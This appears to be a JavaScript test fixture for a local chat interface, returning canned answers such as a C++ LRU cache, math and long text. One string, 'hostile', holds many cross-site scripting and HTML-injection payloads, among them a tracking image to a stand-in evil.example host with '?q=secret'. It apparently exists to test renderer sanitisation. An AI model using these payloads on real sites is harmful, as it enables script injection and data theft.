// What the stand-in server says. A word in the question chooses the answer.

const code = `Here is a small cache in C++. It forgets the entry that was used **longest ago**:

\`\`\`cpp
#include <list>
#include <unordered_map>

// Keeps at most \`capacity\` values.
template <typename Key, typename Value>
class LruCache {
 public:
  explicit LruCache(size_t capacity) : capacity_(capacity) {}

  const Value* find(const Key& key) {
    auto found = index_.find(key);
    if (found == index_.end()) return nullptr;  // "not here"
    order_.splice(order_.begin(), order_, found->second);
    return &found->second->second;
  }

 private:
  size_t capacity_ = 16;
  std::list<std::pair<Key, Value>> order_;
  std::unordered_map<Key, typename std::list<std::pair<Key, Value>>::iterator> index_;
};
\`\`\`

1. \`splice\` moves a node without copying it:
   \`\`\`bash
   g++ -std=c++20 -O2 cache.cc && ./a.out --entries 1000
   \`\`\`
2. Lookups cost one hash.

| operation | cost | note |
|:--|--:|:--|
| find | O(1) | moves to the front |
| insert | O(1) | may drop the last |

> A list keeps its iterators valid, which is why the map may hold them.

See [the reference](https://en.cppreference.com/w/cpp/container/list) for more.`;

const hostile = `Some text first.

<script>window.pwned = 'script'</script>
<img src=x onerror="window.pwned='onerror'">
<svg onload="window.pwned='svg'"><script>window.pwned='svg script'</script><circle r="9"/></svg>
<iframe srcdoc="<script>parent.pwned='iframe'</script>"></iframe>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned='mxss'&gt;"></table></mtext></math>
<form action="https://evil.example/"><button formaction="javascript:window.pwned='form'">Send key</button><input name="q" autofocus onfocus="window.pwned='focus'"></form>
<div style="position:fixed;inset:0;background:red" class="composer" id="app">overlay</div>
<a href="javascript:window.pwned='href'">click me</a>
<a href="JaVaScRiPt&colon;window.pwned='href2'">click me too</a>
<a href="data:text/html,<script>window.pwned='data'</script>">data</a>
<details open ontoggle="window.pwned='toggle'"><summary>x</summary>y</details>
<video src="https://evil.example/v.mp4" autoplay></video><audio src=x onerror="window.pwned='audio'"></audio>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">
<style>body{display:none}</style>
<object data="https://evil.example/o"></object><embed src="https://evil.example/e">

[markdown link](javascript:window.pwned='md') and [vb](vbscript:x) and ![tracking](https://evil.example/pixel.png?q=secret) and ![inline](data:image/svg+xml,<svg/onload=1>)

[a]: javascript:window.pwned='ref'
[reference][a]

\`\`\`html"><img src=x onerror="window.pwned='lang'">
<b>bold?</b><script>window.pwned='code'</script>
\`\`\`

| <img src=x onerror="window.pwned='table'"> | b |
|--|--|
| [x](javascript:alert(1)) | **fine** |

$\\href{javascript:window.pwned='math'}{x}$ and $\\includegraphics{https://evil.example/i.png}$

End of the hostile answer.`;

const math = `The roots of $ax^2 + bx + c = 0$ are

$$x_{1,2} = \\frac{-b \\pm \\sqrt{b^2 - 4ac}}{2a}$$

and with \\(p = b/a\\) one finds \\[ \\sum_{i=1}^{n} i = \\frac{n(n+1)}{2}. \\] It costs $5 or $10, not more.`;

const plain = `Slipstream answers from the machine in front of you. Nothing leaves it, and **nothing is fetched** to show this page.

- It reads checkpoints as they were published.
- It drafts tokens and *verifies* them, so the words are exactly those of the model.
- It remembers prompts it has seen.

Ask for \`code\`, for a table, or for something longer.`;

const thought = `The user asks about the server. Let me think about what matters most here: it runs locally, it is fast, and it keeps
what was computed before.

I should say that shortly, with a list, and not claim anything that is not so.`;

const long = Array.from({ length: 60 }, (_, i) =>
  `Paragraph ${i + 1}. A long answer is made of many paragraphs, and the page has to follow it without getting slower as it grows.`).join('\n\n');

const links = `It is told in [the book][1].

More of it later.

[1]: https://example.org/book`;

export function answerFor(question, { thinking }) {
  const word = question.toLowerCase();
  const pick = [['hostile', hostile], ['code', code], ['math', math], ['links', links], ['long', long], ['slow', long]].find(([name]) => word.includes(name));
  // Models call tools that nobody offered, too.
  const call = word === 'call a tool' ? { name: 'get_weather', parameters: { type: 'object', properties: { city: { const: 'Oslo' } } } } : undefined;
  return { call, reasoning: thinking ? thought : '', content: pick ? pick[1] : plain, delay: word.includes('slow') ? 40 : undefined };
}

// Pieces as a tokenizer might cut them; together they are the text.
export const tokensOf = (text) => text.match(/\s*[^\s]{1,6}|\s+/g) ?? [];
